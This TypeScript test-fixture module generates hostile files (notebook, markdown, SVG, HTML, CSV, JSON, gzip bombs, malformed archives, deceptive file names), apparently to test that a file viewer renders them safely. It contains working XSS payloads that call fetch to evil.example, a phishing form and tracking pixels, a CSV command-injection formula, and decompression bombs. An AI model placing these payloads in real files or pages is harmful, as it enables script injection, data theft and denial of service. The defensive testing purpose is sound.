import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { gzipSync } from "node:zlib";

const run = "window.__ran = true; alert(1); fetch('https://evil.example/');";
const attacks = `<script>${run}</script><img src=x onerror="${run}"><svg onload="${run}"></svg><a href="javascript:${run}">go</a>
<iframe srcdoc="<script>${run}</script>"></iframe><style>body{display:none!important}</style>
<img src="https://evil.example/spy.png"><form action="https://evil.example"><button>Sign in</button></form>`;

const notebook = {
	nbformat: 4,
	metadata: { language_info: { name: "python" } },
	cells: [
		{ cell_type: "markdown", source: `# A notebook\n\n${attacks}\n\n[go](javascript:alert(1))` },
		{
			cell_type: "code",
			execution_count: 1,
			source: "print(1)",
			outputs: [
				{
					output_type: "display_data",
					data: { "text/html": `${attacks}<table><tr><td>a kept cell</td></tr></table>` },
				},
				{ output_type: "display_data", data: { "application/javascript": run } },
				{ output_type: "display_data", data: { "image/svg+xml": `<svg onload="${run}"/>` } },
			],
		},
	],
};

/** Files that are made to act, each with what a page of it shows. */
export const hostileFiles: { name: string; content: string | Buffer; shows: string | RegExp }[] = [
	{ name: "attack.ipynb", content: JSON.stringify(notebook), shows: "a kept cell" },
	{
		name: "attack.md",
		content: `# Attack\n\n${attacks}\n\n![x](https://evil.example/spy.png)`,
		shows: "Attack",
	},
	{
		name: "attack.svg",
		content: `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90" onload="${run.replaceAll("'", "")}"><script>${run}</script><image href="https://evil.example/spy.png"/><circle cx="45" cy="45" r="40"/></svg>`,
		shows: "SVG",
	},
	{ name: "attack.html", content: `<!doctype html>${attacks}`, shows: "<!doctype html>" },
	{ name: "attack.csv", content: `=cmd|' /C calc'!A0,${attacks.split("\n")[0]}\n1,2\n`, shows: /=cmd/ },
	{
		name: "attack.json",
		content: JSON.stringify({ "<img src=x onerror=alert(1)>": attacks }),
		shows: "JSON",
	},
	{ name: '<img src=x onerror="alert(1)">.txt', content: "markup in a name", shows: "markup in a name" },
	{ name: "report\u202Efdp.txt", content: "right to left in a name", shows: "right to left in a name" },
	{ name: "bomb.csv.gz", content: gzipSync(Buffer.alloc(400 << 20, "a,")), shows: "First 65,536 characters" },
	{ name: "bomb.json.gz", content: gzipSync(Buffer.alloc(400 << 20, "[")), shows: "JSON" },
	{ name: "deep.json", content: "[".repeat(500_000) + "]".repeat(500_000), shows: "JSON" },
	{ name: "line.txt", content: "x".repeat(4_000_000), shows: "First 65,536 characters" },
	{ name: "cut.parquet", content: "PAR1 and nothing more", shows: "This Parquet file is damaged" },
	{ name: "cut.zip", content: "PK\x03\x04 and nothing more", shows: "This zip archive is damaged" },
	{ name: "cut.bam", content: gzipSync("BAM\x01\xff\xff\xff\x7f@HD"), shows: "BAM" },
	{ name: "cut.png", content: Buffer.from("89504e470d0a1a0a00", "hex"), shows: "its beginning is damaged" },
];

/** Writes them into a folder; returns their paths. */
export function writeHostileFiles(folder: string): string[] {
	mkdirSync(folder, { recursive: true });
	return hostileFiles.map(({ name, content }) => {
		const path = join(folder, name);
		writeFileSync(path, content);
		return path;
	});
}
